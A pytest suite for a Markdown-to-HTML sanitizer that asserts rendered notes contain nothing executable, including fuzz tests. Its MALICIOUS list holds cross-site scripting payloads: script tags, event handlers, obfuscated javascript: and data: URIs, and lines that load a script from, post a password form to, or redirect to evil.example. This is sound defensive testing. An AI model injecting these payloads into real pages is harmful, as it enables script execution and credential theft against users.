"""Markdown to HTML: what a note writes is shown, what it could run is not."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.markdown_html import TAGS, render_markdown
from tests.support.html_safety import elements, executable_parts

MALICIOUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pixel](javascript:alert(1))",
    '![x](https://example.com/x.png "title" onerror="alert(1)")',
    "<javascript:alert(1)>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<div onclick='alert(1)'>raw html</div>",
    '<p style="position:fixed">covering the page</p>',
    "<!-- comment --><script>x</script>",
    "<object data=x></object><embed src=x>",
    "```html\n<script>alert(1)</script>\n```",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_nothing_a_note_writes_can_run(text: str) -> None:
    html = render_markdown(f"Before.\n\n{text}\n\nAfter.")
    assert executable_parts(html) == [], html
    assert "Before." in html and "After." in html


def test_raw_html_is_shown_as_text_not_injected() -> None:
    html = render_markdown('<b>bold?</b> <a href="https://x.example">raw link</a>')
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert [tag for tag, _ in elements(html)] == ["p"]


def test_markdown_is_rendered() -> None:
    html = render_markdown(
        "## Heading\n\nSome *emphasis*, **strong**, `code` and ~~struck~~.\n\n"
        "- one\n- two\n\n3. three\n\n> quoted\n\n"
        "[a link](https://example.com/page) and [a relative one](/notes/other)\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```\nblock\n```\n\n---\n"
    )
    for part in ("<h2>Heading</h2>", "<em>emphasis</em>", "<strong>strong</strong>"):
        assert part in html
    for part in ("<code>code</code>", "<s>struck</s>", '<ol start="3">', "<blockquote>"):
        assert part in html
    assert '<a href="https://example.com/page" rel="noopener noreferrer">a link</a>' in html
    assert '<a href="/notes/other" rel="noopener noreferrer">' in html
    assert "<table>" in html and "<td>1</td>" in html  # alignment style dropped: CSP
    assert "<pre><code>block\n</code></pre>" in html and "<hr>" in html
    assert executable_parts(html) == []


def test_only_the_allowed_tags_come_out() -> None:
    html = render_markdown("\n\n".join(MALICIOUS))
    assert {tag for tag, _ in elements(html)} <= TAGS


# Text that looks like Markdown and HTML: the characters and words that make trouble.
pieces = st.sampled_from(
    [
        "<", ">", "/", "=", '"', "'", "`", "(", ")", "[", "]", "!", "*", "_", "#", "-", "|",
        "\n", "\n\n", " ", "\t", "&", ";", ":", "\\", "    ",
        "script", "SCRIPT", "img", "svg", "iframe", "a", "href", "src", "style",
        "onerror", "onload", "onclick", "javascript", "JaVaScRiPt", "data", "vbscript",
        "alert(1)", "https://example.com", "&#106;", "&#x6A;", "<!--", "-->", "```", "~~~",
    ]
)  # fmt: skip
markdownish = st.lists(st.one_of(pieces, st.text(max_size=5)), max_size=60).map("".join)


@settings(max_examples=400, deadline=None)
@given(text=markdownish)
def test_rendering_any_text_never_raises_and_never_emits_script(text: str) -> None:
    html = render_markdown(text)
    assert "<script" not in html.lower()
    assert executable_parts(html) == [], (text, html)
    assert {tag for tag, _ in elements(html)} <= TAGS


@settings(max_examples=200, deadline=None)
@given(text=st.text())
def test_rendering_arbitrary_unicode_never_raises(text: str) -> None:
    assert executable_parts(render_markdown(text)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JAVA\tSCRIPT:alert(1)">x</a>',
        '<img src="data:image/png;base64,AAAA">',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
    ],
)
def test_the_checker_itself_sees_what_could_run(html: str) -> None:
    assert executable_parts(html) != []
